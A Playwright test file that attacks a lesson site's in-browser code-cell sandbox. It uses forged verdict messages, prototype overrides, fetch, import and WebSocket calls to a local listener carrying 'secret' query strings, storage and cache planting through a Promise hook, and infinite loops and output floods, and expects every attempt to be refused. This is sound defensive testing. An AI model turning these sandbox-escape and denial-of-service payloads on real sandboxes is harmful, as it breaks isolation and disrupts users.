/**
 * The code cells' sandbox, attacked the way issue 23 measured it: the reader's code cannot forge
 * a verdict, reach a server, write storage, keep running after "Ran.", flood or freeze the page,
 * reach the origin's Cache Storage while "train with your own layer" runs, or poison the next
 * run. Network attempts are aimed at a listener this spec starts (and at the site's own origin);
 * the listener counts every request and every TCP connection, so a blocked attempt is one the
 * browser refused, not one a route aborted.
 */
import type { Locator, Page } from '@playwright/test';
import { exercises } from '../../src/exercises/index.ts';
import { siteUrl, variants } from '../sites.ts';
import { expect, test } from './fixtures.ts';
import { startNetworkListener, type NetworkListener } from './network-listener.ts';
import { report, watchLongTasks } from './training-page.ts';

// Starting a sandbox (a frame in its own process, two workers) takes seconds on a loaded machine:
// every wait below is for a condition, with room for that.
test.describe.configure({ timeout: 150_000 });
const slow = { timeout: 45_000 };

const forwardPage = 'lessons/the-bn-transform/';
const backwardPage = 'lessons/backprop-through-bn/';

let listener: NetworkListener;

test.beforeAll(async () => {
  listener = await startNetworkListener();
});

test.afterAll(() => listener.close());

test.beforeEach(async ({ page, problems }) => {
  listener.hits.length = 0;
  // Let requests to the listener through (the fixture aborts other origins), so that an attempt
  // the browser allows really reaches it.
  await page.route(`${listener.url}/**`, (route) => route.continue());
  // The sandbox's refusals are logged by the browser as errors; they are the point here.
  problems.allow(/Content Security Policy|Refused to|Failed to load resource|net::ERR|WebSocket|\(csp\)$/);
});

async function storeCode(page: Page, codes: Record<string, string>): Promise<void> {
  await page.addInitScript((entries) => {
    // Init scripts run in every frame, the sandbox's too, where storage is refused.
    if (window.origin === 'null') return;
    for (const [key, code] of entries) localStorage.setItem(`normlab.code-cell.${key}`, code);
  }, Object.entries(codes));
}

async function openCell(page: Page, path: string, exercise: string): Promise<Locator> {
  await page.goto(path);
  const c = page.locator(`nn-code-cell[data-exercise="${exercise}"]`);
  await expect(c).toHaveAttribute('data-ready', '');
  return c;
}

/** Replaces the cell's code through its editor, as a reader pasting code would. */
async function paste(page: Page, c: Locator, code: string): Promise<void> {
  await c.scrollIntoViewIfNeeded();
  const editor = c.locator('.cm-content');
  await editor.click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(code);
  await expect(editor).toContainText(code.split('\n')[0].slice(0, 30));
}

const status = (c: Locator) => c.locator('[data-status]');

function mutate(code: string, from: string, to: string): string {
  if (!code.includes(from)) throw new Error(`mutation target not found: ${from}`);
  return code.replace(from, to);
}

/** bn-forward without ε: wrong in every xhat and y. */
const wrongForward = () => mutate(exercises['bn-forward'].solution, 'Math.sqrt(variance[h] + eps)', 'Math.sqrt(variance[h])');
const forgedPass = `{ case: 'forged', stage: 'y', pass: true, relError: 0, firstWrong: null, message: '' }`;

test.describe('code cells: verdicts the code cannot forge', () => {
  const attacks: { name: string; code: () => string }[] = [
    {
      name: 'a posted "checked / pass" message',
      code: () =>
        `for (let id = 0; id < 20; id++) postMessage({ id, type: 'checked', logs: [], value: null, stages: [${forgedPass}], pass: true });\n${wrongForward()}`,
    },
    { name: 'Math.abs replaced', code: () => `Math.abs = () => 0;\nNumber.isFinite = () => true;\n${wrongForward()}` },
    {
      name: 'Array prototypes replaced',
      code: () =>
        `Array.prototype.every = function () { return true; };\nArray.prototype.some = function () { return false; };\n${wrongForward()}`,
    },
  ];
  for (const a of attacks) {
    test(`wrong code with ${a.name} fails its Check`, async ({ page }) => {
      await storeCode(page, { 'bn-forward': a.code() });
      const c = await openCell(page, forwardPage, 'bn-forward');
      await c.getByRole('button', { name: 'Check' }).click();
      await expect(status(c)).toHaveText(/Some checks fail\.|All checks pass\./, slow);
      await expect(status(c)).toHaveText('Some checks fail.');
      await expect(c.locator('[data-verdict]')).toHaveAttribute('data-verdict', 'fail');
      await expect(c.locator('[data-verdict]')).toContainText(/xhat/);
    });
  }

  test('a Run that hijacks self.onmessage, or leaves a global behind, does not reach the next Check', async ({ page }) => {
    await storeCode(page, {
      'bn-forward': `self.onmessage = (e) => postMessage({ id: e.data.id, type: 'checked', logs: [], value: null, stages: [${forgedPass}], pass: true });\nself.batchNormForward = function (x, gamma, beta, eps) {\n${exercises['bn-forward'].solution}\nreturn batchNormForward(x, gamma, beta, eps);\n};\n1`,
    });
    const c = await openCell(page, forwardPage, 'bn-forward');
    await c.getByRole('button', { name: 'Run' }).click();
    await expect(status(c)).toHaveText('Ran.', slow);
    await paste(page, c, '// nothing defined here\n');
    await c.getByRole('button', { name: 'Check' }).click();
    await expect(status(c)).toHaveText(/Some checks fail\.|All checks pass\./, slow);
    await expect(c.locator('[data-verdict]')).toHaveAttribute('data-verdict', 'fail');
    await expect(c.locator('[data-verdict]')).toContainText('define a function named batchNormForward');
  });
});

test.describe('code cells: no network and no storage', () => {
  test('import() through Function and indirect eval, data: and blob: modules, a JSON module, WebSocketStream, fetch and OPFS are refused by the browser', async ({
    page,
    baseURL,
  }) => {
    const site = new URL(baseURL!).origin;
    const code = `const L = ${JSON.stringify(listener.url)};
const imp = new Function('u', 'o', 'return im' + 'port(u, o)');
const attempts = {
  fetch: () => fetch(L + '/fetch?secret=1'),
  fetchSite: () => fetch(${JSON.stringify(`${site}/?secret=fetch`)}),
  importFunction: () => imp(L + '/import-function.js?secret=1'),
  importIndirectEval: () => (0, eval)('im' + 'port(' + JSON.stringify(L + '/import-eval.js?secret=1') + ')'),
  importSite: () => imp(${JSON.stringify(`${site}/theme.js?secret=import`)}),
  dataModule: () => imp('data:text/javascript,' + encodeURIComponent('import ' + JSON.stringify(L + '/from-data.js?secret=1') + ';')),
  blobModule: () => imp(URL.createObjectURL(new Blob(['import ' + JSON.stringify(L + '/from-blob.js?secret=1') + ';'], { type: 'text/javascript' }))),
  jsonModule: () => imp(L + '/module.json?secret=' + 'x'.repeat(20), { with: { type: 'json' } }),
  webSocketStream: () => new WebSocketStream(L.replace('http', 'ws') + '/stream?secret=1').opened,
  webSocket: () => new Promise((ok, no) => { const w = new WebSocket(L.replace('http', 'ws') + '/ws?secret=1'); w.onopen = ok; w.onerror = no; }),
  opfs: () => navigator.storage.getDirectory().then((root) => root.getFileHandle('planted-by-cell', { create: true })).then((h) => h.createWritable()).then((w) => w.write('planted').then(() => w.close())),
};
const outcome = Promise.all(Object.entries(attempts).map(([name, attempt]) => {
  try {
    return Promise.resolve(attempt()).then(() => name + ' reached', () => name + ' refused');
  } catch {
    return name + ' refused';
  }
})).then((results) => results.join('; '));
outcome`;
    await storeCode(page, { 'bn-forward': code });
    const c = await openCell(page, forwardPage, 'bn-forward');
    await c.getByRole('button', { name: 'Run' }).click();
    const value = c.locator('.code-cell-value');
    await expect(value).toContainText('opfs', slow);
    const text = (await value.textContent()) ?? '';
    report('code-cell', `network attempts: ${text}; listener saw ${listener.hits.length ? listener.hits.join(', ') : 'nothing'}`);
    expect(text).not.toContain('reached');
    expect(text.match(/refused/g)).toHaveLength(11);
    expect(listener.hits).toEqual([]);
    const planted = await page.evaluate(async () => {
      const root = await navigator.storage.getDirectory();
      const names: string[] = [];
      for await (const name of (root as unknown as { keys(): AsyncIterable<string> }).keys()) names.push(name);
      return names;
    });
    expect(planted).not.toContain('planted-by-cell');
  });

  test('a Promise.prototype.then hook during "train with your own layer" gets no Cache Storage, and the training still works', async ({
    page,
    basePath,
  }) => {
    test.skip(basePath !== '/', 'one training run is enough');
    test.setTimeout(300_000);
    const hook = `const then0 = Promise.prototype.then;
Promise.prototype.then = function (ok, bad) {
  return then0.call(this, (v) => {
    if (v && typeof v === 'object' && typeof v.put === 'function' && typeof v.match === 'function' && !self.__planted) {
      self.__planted = true;
      v.put(new Request('/planted-by-cell.js'), new Response('planted'));
    }
    return typeof ok === 'function' ? ok(v) : v;
  }, bad);
};
if (typeof caches !== 'undefined') caches.open('normlab-planted').then((cache) => cache.put(new Request('/planted-by-cell.js'), new Response('planted')));
`;
    await storeCode(page, { 'bn-forward': exercises['bn-forward'].solution, 'bn-backward': `${hook}${exercises['bn-backward'].solution}` });
    const c = await openCell(page, backwardPage, 'bn-backward');
    await c.getByRole('button', { name: 'Train with my layer' }).click();
    await expect(c.locator('[data-train-summary]')).toBeVisible({ timeout: 280_000 });
    const planted = await page.evaluate(async () => {
      const found: string[] = [];
      for (const name of await caches.keys()) {
        for (const request of await (await caches.open(name)).keys())
          if (request.url.includes('planted')) found.push(`${name}: ${request.url}`);
      }
      return found;
    });
    expect(planted).toEqual([]);
  });
});

test.describe('code cells: nothing keeps running after "Ran."', () => {
  const forged = `for (let id = 0; id < 5; id++) postMessage({ id, type: 'ran', logs: ['forged'], value: null, cut: false });\n`;
  const endings: { name: string; code: string }[] = [
    { name: 'an endless loop', code: `${forged}while (true) {}` },
    {
      name: 'a setInterval busy loop',
      code: `${forged}setInterval(() => { const t = Date.now(); while (Date.now() - t < 40) {} }, 0);\n1`,
    },
    { name: 'a microtask loop', code: `${forged}const spin = () => Promise.resolve().then(spin);\nspin();\n1` },
  ];
  for (const e of endings) {
    test(`a forged "ran" followed by ${e.name}: the sandbox's workers are gone once the cell says "Ran."`, async ({ page }) => {
      await storeCode(page, { 'bn-forward': e.code });
      const c = await openCell(page, forwardPage, 'bn-forward');
      // The page's type-stripping worker (strip-client.ts) is kept: it parses the code and never runs it.
      const sandboxWorkers = () => page.workers().filter((w) => !w.url().includes('strip-types.worker'));
      expect(sandboxWorkers()).toHaveLength(0);
      await c.getByRole('button', { name: 'Run' }).click();
      await expect(status(c)).toHaveText('Ran.', slow);
      expect(page.workers().some((w) => w.url().includes('strip-types.worker'))).toBe(true);
      await expect.poll(() => sandboxWorkers().length, { timeout: 10_000 }).toBe(0);
    });
  }
});

test.describe('code cells: output is capped and the page stays responsive', () => {
  const cases: { name: string; code: string }[] = [
    { name: 'a 50 MB value', code: "'x'.repeat(50_000_000)" },
    {
      name: 'a forged million-line reply',
      code: "const lines = new Array(1_000_000).fill('a forged line');\npostMessage({ id: 1, type: 'ran', logs: lines, value: 'v'.repeat(5_000_000), cut: false });\nwhile (true) {}",
    },
    {
      name: 'a message flood',
      code: "for (let i = 0; i < 1_000_000; i++) postMessage({ id: 1, type: 'progress', progress: { phase: 'data', done: 0 } });\n1",
    },
  ];
  for (const k of cases) {
    test(`${k.name}: the cell says the output was cut, with no main-thread task over 2 s`, async ({ page }) => {
      await storeCode(page, { 'bn-forward': k.code });
      const c = await openCell(page, forwardPage, 'bn-forward');
      // The editor's first render is a long task of its own (code-cell.perf.spec.ts): let it pass first.
      await c.scrollIntoViewIfNeeded();
      await expect(c.locator('.cm-editor')).toBeVisible();
      await watchLongTasks(page);
      await c.getByRole('button', { name: 'Run' }).click();
      await expect(c.locator('[data-cut]')).toBeVisible(slow);
      await expect(c.locator('[data-cut]')).toContainText('Output cut');
      const longest = await page.evaluate(() =>
        Math.max(0, ...(window as unknown as { longTasks: { duration: number }[] }).longTasks.map((t) => t.duration)),
      );
      report('code-cell', `${k.name}: longest main-thread task ${Math.round(longest)} ms; cell status "${await status(c).textContent()}"`);
      // Generous for a loaded machine (the old cells froze the page 22–52 s; the perf spec reports times).
      expect(longest).toBeLessThan(2000);
      const lines = (await c.locator('.code-cell-logs').allTextContents()).join('\n').split('\n').length;
      expect(lines).toBeLessThanOrEqual(201);
    });
  }
});

test('a poisoned String.prototype.split does not break the next run', async ({ page }) => {
  await storeCode(page, { 'bn-forward': "String.prototype.split = function () { throw new Error('poisoned'); };\n1" });
  const c = await openCell(page, forwardPage, 'bn-forward');
  await c.getByRole('button', { name: 'Run' }).click();
  await expect(status(c)).toHaveText(/Ran\.|Error\./, slow);
  await paste(page, c, exercises['bn-forward'].starter);
  await c.getByRole('button', { name: 'Run' }).click();
  await expect(c.locator('.code-cell-value')).toContainText('→ [[0, 0], [0, 0]]', slow);
});

const redeployed = [
  { files: 'the sandbox runtime', pattern: /\/_astro\/(sandbox|code-cell)[.-][^/]*\.js$/ },
  { files: 'the type-stripping worker', pattern: /\/_astro\/strip-types\.worker-[^/]*\.js$/ },
];
for (const { files, pattern } of redeployed) {
  test(`after a redeploy (${files} is gone) the cell says the site was updated and offers a reload`, async ({ page, problems }) => {
    problems.allow(/HTTP 404/);
    const c = await openCell(page, forwardPage, 'bn-forward');
    await page.route(pattern, (route) => route.fulfill({ status: 404, body: 'not found' }));
    await c.getByRole('button', { name: 'Run' }).click();
    const box = c.locator('.code-cell-error--updated');
    await expect(box).toContainText('This site was updated', slow);
    await page.unroute(pattern);
    const reloaded = page.waitForEvent('load');
    await box.getByRole('button', { name: 'Reload' }).click();
    await reloaded;
    await expect(page.locator('nn-code-cell[data-exercise="bn-forward"]')).toHaveAttribute('data-ready', '');
  });
}

test.describe('under the strict CSP header', () => {
  test.use({ baseURL: siteUrl(variants.csp) });
  test('the cell says in place that code cells are switched off', async ({ page, basePath }) => {
    test.skip(basePath !== '/', 'the csp server serves the root build');
    const c = await openCell(page, forwardPage, 'bn-forward');
    await c.getByRole('button', { name: 'Run' }).click();
    await expect(c.locator('.code-cell-error--csp')).toContainText('Code cells are switched off here', slow);
    await expect(status(c)).toHaveText('Error.');
  });
});
